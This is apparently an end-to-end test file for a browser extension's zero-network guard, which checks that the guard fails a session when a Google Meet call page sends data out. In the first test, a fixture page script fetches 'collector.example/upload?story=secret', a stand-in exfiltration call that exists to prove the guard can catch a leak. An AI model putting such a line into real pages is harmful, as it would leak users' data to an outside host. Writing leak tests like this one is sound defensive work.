import { describe, expect } from 'vitest';
import { serveCallPages } from '../harness/call-pages';
import { test } from './fixtures';

// Every browser session in the e2e run is checked on close (tests/harness/browser.mjs, guardNetwork). This file
// proves that check can fail: a request started from a call page beyond loading itself is caught.
describe('the zero-network guard', () => {
  test('fails the session when a call page sends something out', async ({ browsers }) => {
    const { context } = await browsers.launch({ expectLeak: true });
    await serveCallPages(context, [
      {
        url: 'https://meet.google.com/zzz-leak-zzz',
        html: `<!doctype html><title>leaky</title><script>fetch('https://collector.example/upload?story=secret').catch(() => {});</script>`,
      },
    ]);
    const page = await context.newPage();
    await page.goto('https://meet.google.com/zzz-leak-zzz');
    await page.waitForLoadState('networkidle').catch(() => {});
    await expect(context.close()).rejects.toThrow(/collector\.example/);
  });

  test('passes a session that only loads fixture pages and extension pages', async ({ context, extensionUrl }) => {
    await serveCallPages(context, [
      { url: 'https://meet.google.com/abc-defg-hij', html: '<!doctype html><title>quiet</title>' },
    ]);
    const page = await context.newPage();
    await page.goto('https://meet.google.com/abc-defg-hij');
    await page.goto(extensionUrl('dashboard.html#/stories'));
    await page.getByRole('heading', { name: 'Story library' }).waitFor();
    await expect(context.close()).resolves.toBeUndefined();
  });
});
